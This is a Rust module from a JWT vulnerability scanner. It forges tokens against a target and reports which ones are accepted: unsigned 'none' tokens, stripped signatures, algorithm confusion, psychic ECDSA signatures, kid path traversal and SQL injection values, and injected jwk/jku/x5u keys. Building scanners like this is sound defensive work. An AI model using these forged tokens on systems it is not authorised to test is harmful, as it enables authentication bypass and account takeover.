//! The active scan: forged tokens sent to a target that has been calibrated as an oracle.
//! Every hit is confirmed by a second request before it is reported.

mod callback;
mod oracle;
mod skew;

use std::net::SocketAddr;

use serde_json::{Value, json};

pub use oracle::{Mode, Placement};

use super::jwks;
use super::rules;
use super::sign::Signer;
use super::token::{Object, Token, b64, compact, now, signing_input};
use crate::ScanError;
use crate::finding::{Finding, Report, Rule, Severity};

/// How to reach the target.
pub struct Target {
    pub url: String,
    pub method: reqwest::Method,
    pub placement: Placement,
    /// Where the callback listener binds (port 0 for any).
    pub callback_bind: SocketAddr,
    /// The base URL at which the target reaches the listener, when not its bound address.
    pub callback_url: Option<String>,
}

/// Curve orders, for the `r = s = n` relative of the psychic signature.
const P256_ORDER: &str = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
const P384_ORDER: &str = "ffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973";
const P521_ORDER: &str = "01fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffa51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409";

/// Runs every probe; `keys` are the target's published keys, `signer` a key that signs tokens
/// the target accepts (supplied or cracked), for the probes that need valid signatures.
pub async fn scan(
    target: &Target,
    client: &reqwest::Client,
    original: &str,
    token: &Token,
    keys: &[Object],
    signer: Option<&Signer>,
    report: &mut Report,
) -> Result<u64, ScanError> {
    let (oracle, calibration) = oracle::Oracle::calibrate(
        client.clone(),
        &target.url,
        target.method.clone(),
        target.placement.clone(),
        original,
    )
    .await?;
    let mut probe = Prober {
        oracle,
        token,
        report,
    };
    probe.report.add(Finding::new(
        &rules::ORACLE,
        Severity::Info,
        format!(
            "the target answers {} to the token and {} to a garbage token (told apart by {})",
            calibration.accepted_status,
            calibration.refused_status,
            match calibration.mode {
                Mode::Status => "status",
                Mode::Body => "body",
            }
        ),
    ));
    if let Some(exp) = token.time_claim("exp").filter(|&exp| exp < now()) {
        // Calibration sent it twice and both were accepted.
        probe.report.add(Finding::new(
            &rules::EXPIRY_NOT_ENFORCED,
            Severity::High,
            format!(
                "the target accepts the token although it expired {} s ago",
                now() - exp
            ),
        ));
    }
    probe.unsigned().await?;
    probe.signature_checks().await?;
    probe.confusion(keys).await?;
    probe.psychic(keys).await?;
    probe.kid_injection().await?;
    probe.injected_keys(target).await?;
    if let Some(signer) = signer {
        probe.keyed(signer).await?;
    }
    Ok(probe.oracle.requests())
}

struct Prober<'a> {
    oracle: oracle::Oracle,
    token: &'a Token,
    report: &'a mut Report,
}

impl Prober<'_> {
    fn header(&self) -> Object {
        self.token.header.clone()
    }

    fn claims(&self) -> Object {
        self.token.claims.clone()
    }

    /// Sends a probe; when the target accepts it twice, reports it with the probe's header
    /// as evidence.
    async fn hit(
        &mut self,
        token: &str,
        rule: &'static Rule,
        severity: Severity,
        message: String,
    ) -> Result<bool, ScanError> {
        if !self.oracle.confirmed(token).await? {
            return Ok(false);
        }
        let header = Token::parse(token)
            .map(|t| Value::Object(t.header).to_string())
            .unwrap_or_default();
        self.report
            .add(Finding::new(rule, severity, message).with_evidence(format!("header {header}")));
        Ok(true)
    }

    /// `alg: none` in four spellings.
    async fn unsigned(&mut self) -> Result<(), ScanError> {
        for alg in ["none", "None", "NONE", "nOnE"] {
            let mut header = self.header();
            header.insert("alg".into(), alg.into());
            let token = format!("{}.", signing_input(&header, &self.claims()));
            if self
                .hit(
                    &token,
                    &rules::ACCEPTS_NONE,
                    Severity::Critical,
                    format!("the target accepts an unsigned token with alg {alg:?}"),
                )
                .await?
            {
                break;
            }
        }
        Ok(())
    }

    /// The signature removed, altered, or kept over changed claims.
    async fn signature_checks(&mut self) -> Result<(), ScanError> {
        let stripped = format!("{}.", self.token.signing_input);
        self.hit(
            &stripped,
            &rules::SIGNATURE_NOT_VERIFIED,
            Severity::Critical,
            "the target accepts the token with its signature removed".into(),
        )
        .await?;
        let mut altered = self.token.signature.clone();
        match altered.first_mut() {
            Some(b) => *b ^= 0x01,
            None => altered.push(0),
        }
        let altered = compact(&self.token.signing_input, &altered);
        self.hit(
            &altered,
            &rules::SIGNATURE_NOT_VERIFIED,
            Severity::Critical,
            "the target accepts the token with a wrong signature".into(),
        )
        .await?;
        let mut claims = self.claims();
        claims.insert("palisade_scan".into(), "tampered".into());
        let tampered = compact(
            &signing_input(&self.header(), &claims),
            &self.token.signature,
        );
        self.hit(
            &tampered,
            &rules::SIGNATURE_NOT_VERIFIED,
            Severity::Critical,
            "the target accepts changed claims under the original signature".into(),
        )
        .await?;
        Ok(())
    }

    /// HS256 keyed with each published key in every encoding a library might read it in.
    async fn confusion(&mut self, keys: &[Object]) -> Result<(), ScanError> {
        for key in keys {
            let mut header = self.header();
            if let Some(kid) = key.get("kid") {
                header.insert("kid".into(), kid.clone());
            }
            for (form, secret) in jwks::confusion_secrets(key) {
                let token = Signer::hmac("HS256", secret)?.token(&header, &self.claims())?;
                let message = format!("the target accepts HS256 keyed with its {form}");
                if self
                    .hit(&token, &rules::ALG_CONFUSION, Severity::Critical, message)
                    .await?
                {
                    break;
                }
            }
        }
        Ok(())
    }

    /// ECDSA signatures with r = s = 0 (raw and DER) and r = s = n, for every ECDSA
    /// algorithm the token or the key set uses (ES256 when neither does).
    async fn psychic(&mut self, keys: &[Object]) -> Result<(), ScanError> {
        let mut algs: Vec<&str> = keys
            .iter()
            .filter_map(|k| match k.get("crv").and_then(Value::as_str) {
                Some("P-256") => Some("ES256"),
                Some("P-384") => Some("ES384"),
                Some("P-521") => Some("ES512"),
                _ => None,
            })
            .collect();
        if self.token.alg().starts_with("ES") {
            algs.push(self.token.alg());
        }
        if algs.is_empty() {
            algs.push("ES256");
        }
        algs.sort_unstable();
        algs.dedup();
        for alg in algs {
            let (len, order) = match alg {
                "ES384" => (48, P384_ORDER),
                "ES512" => (66, P521_ORDER),
                _ => (32, P256_ORDER),
            };
            let order = data_encoding::HEXLOWER
                .decode(order.as_bytes())
                .unwrap_or_default();
            let mut header = self.header();
            header.insert("alg".into(), alg.into());
            let input = signing_input(&header, &self.claims());
            let variants: [(&str, Vec<u8>); 3] = [
                ("r = s = 0", vec![0; 2 * len]),
                (
                    "r = s = 0 in DER",
                    vec![0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00],
                ),
                ("r = s = n", [order.as_slice(), order.as_slice()].concat()),
            ];
            for (name, signature) in variants {
                let message = format!("the target accepts an {alg} signature with {name}");
                if self
                    .hit(
                        &compact(&input, &signature),
                        &rules::PSYCHIC_SIGNATURE,
                        Severity::Critical,
                        message,
                    )
                    .await?
                {
                    break;
                }
            }
        }
        Ok(())
    }

    /// kid as a path to a file of known content (empty) and as a query yielding a chosen
    /// key; and HS256 with an empty secret, which is what a missing file often becomes.
    async fn kid_injection(&mut self) -> Result<(), ScanError> {
        let probes: [(&str, &[u8], &Rule, &str); 4] = [
            (
                "../../../../../../../../dev/null",
                b"",
                &rules::KID_INJECTION,
                "reads the kid as a path (../ to /dev/null)",
            ),
            (
                "/dev/null",
                b"",
                &rules::KID_INJECTION,
                "reads the kid as a path (/dev/null)",
            ),
            (
                "x' UNION SELECT 'palisade-scan' -- ",
                b"palisade-scan",
                &rules::KID_INJECTION,
                "runs the kid as SQL (UNION SELECT)",
            ),
            (
                "palisade-scan-unknown-kid",
                b"",
                &rules::WEAK_SECRET,
                "accepts HS256 signed with an empty secret",
            ),
        ];
        for (kid, secret, rule, what) in probes {
            let mut header = self.header();
            header.insert("kid".into(), kid.into());
            let token = Signer::hmac("HS256", secret.to_vec())?.token(&header, &self.claims())?;
            self.hit(
                &token,
                rule,
                Severity::Critical,
                format!("the target {what}"),
            )
            .await?;
        }
        Ok(())
    }

    /// The scanner's own keys offered in the header (jwk) or at a URL the header names (jku,
    /// x5u), served by a listener that records whether the target fetched them.
    async fn injected_keys(&mut self, target: &Target) -> Result<(), ScanError> {
        let listener =
            callback::Callback::start(target.callback_bind, target.callback_url.clone()).await?;
        let nonce = {
            let mut bytes = [0u8; 12];
            aws_lc_rs::rand::fill(&mut bytes)
                .map_err(|_| ScanError::Key("no randomness".into()))?;
            b64(&bytes)
        };
        for signer in [Signer::generate_rsa()?, Signer::generate_p256()?] {
            let alg = signer.alg();
            let kid = format!("palisade-scan-{nonce}-{alg}");
            let jwk = signer.public_jwk(&kid).unwrap_or_default();
            let mut header = self.header();
            header.insert("kid".into(), kid.clone().into());
            header.insert("jwk".into(), jwk.clone());
            let token = signer.token(&header, &self.claims())?;
            self.hit(
                &token,
                &rules::INJECTED_KEY_TRUSTED,
                Severity::Critical,
                format!("the target verifies {alg} with the key the token embeds in jwk"),
            )
            .await?;

            let jwks_path = format!("/{nonce}/{alg}/jwks.json");
            let jku = listener.serve(
                &jwks_path,
                "application/jwk-set+json",
                json!({ "keys": [jwk] }).to_string().into_bytes(),
            );
            let cert_path = format!("/{nonce}/{alg}/cert.pem");
            let x5u = listener.serve(
                &cert_path,
                "application/pem-certificate-chain",
                signer.certificate_pem()?.into_bytes(),
            );
            for (member, url, path) in [("jku", jku, jwks_path), ("x5u", x5u, cert_path)] {
                let mut header = self.header();
                header.insert("kid".into(), kid.clone().into());
                header.insert(member.into(), url.clone().into());
                let token = signer.token(&header, &self.claims())?;
                let trusted = self
                    .hit(&token, &rules::INJECTED_KEY_TRUSTED, Severity::Critical, format!("the target verifies {alg} with the key at the URL the token names in {member}"))
                    .await?;
                if !trusted && listener.fetched(&path) {
                    self.report.add(
                        Finding::new(
                            &rules::KEY_URL_FETCHED,
                            Severity::High,
                            format!("the target fetched the {member} URL a token named"),
                        )
                        .with_evidence(format!("{member}: {url}")),
                    );
                }
            }
        }
        Ok(())
    }

    /// With a key the target trusts: audience and issuer substitution, exp dropped, and the
    /// leeway past exp and before nbf measured to the second.
    async fn keyed(&mut self, signer: &Signer) -> Result<(), ScanError> {
        let header = self.header();
        if !self
            .oracle
            .confirmed(&signer.token(&header, &self.claims())?)
            .await?
        {
            self.report.add(Finding::new(
                &rules::ORACLE,
                Severity::Info,
                "the target refuses the token re-signed with the supplied or cracked key, so the keyed probes were skipped",
            ));
            return Ok(());
        }
        for (claim, other, rule) in [
            (
                "aud",
                "https://palisade-scan.invalid/another-audience",
                &rules::AUDIENCE_NOT_CHECKED,
            ),
            (
                "iss",
                "https://palisade-scan.invalid/another-issuer",
                &rules::ISSUER_NOT_CHECKED,
            ),
        ] {
            if self.token.claims.contains_key(claim) {
                let mut claims = self.claims();
                claims.insert(claim.into(), other.into());
                let token = signer.token(&header, &claims)?;
                self.hit(
                    &token,
                    rule,
                    Severity::High,
                    format!("the target accepts a token whose {claim} is {other:?}"),
                )
                .await?;
            }
        }
        let mut claims = self.claims();
        claims.remove("exp");
        let token = signer.token(&header, &claims)?;
        self.hit(
            &token,
            &rules::EXPIRY_NOT_ENFORCED,
            Severity::Medium,
            "the target accepts a token without exp".into(),
        )
        .await?;

        let base = self.claims();
        let expired = |age: i64| {
            let now = now();
            let mut c = base.clone();
            c.insert("exp".into(), (now - age).into());
            c.remove("nbf");
            if c.contains_key("iat") {
                c.insert("iat".into(), (now - age - 60).into());
            }
            signer.token(&header, &c)
        };
        match skew::leeway(&self.oracle, expired).await? {
            skew::Leeway::Unbounded => self.report.add(Finding::new(
                &rules::EXPIRY_NOT_ENFORCED,
                Severity::High,
                format!(
                    "the target accepts tokens that expired {} days ago",
                    skew::LIMIT / 86_400
                ),
            )),
            skew::Leeway::Seconds(s) => self.report.add(skew::finding("past exp", s)),
        }
        let early = |ahead: i64| {
            let now = now();
            let mut c = base.clone();
            c.insert("nbf".into(), (now + ahead).into());
            c.insert("exp".into(), (now + ahead + 3600).into());
            if c.contains_key("iat") {
                c.insert("iat".into(), now.into());
            }
            signer.token(&header, &c)
        };
        match skew::leeway(&self.oracle, early).await? {
            skew::Leeway::Unbounded => self.report.add(Finding::new(
                &rules::CLOCK_SKEW,
                Severity::Medium,
                format!(
                    "the target accepts tokens whose nbf is {} days ahead: it ignores nbf",
                    skew::LIMIT / 86_400
                ),
            )),
            skew::Leeway::Seconds(s) => self.report.add(skew::finding("before nbf", s)),
        }
        Ok(())
    }
}
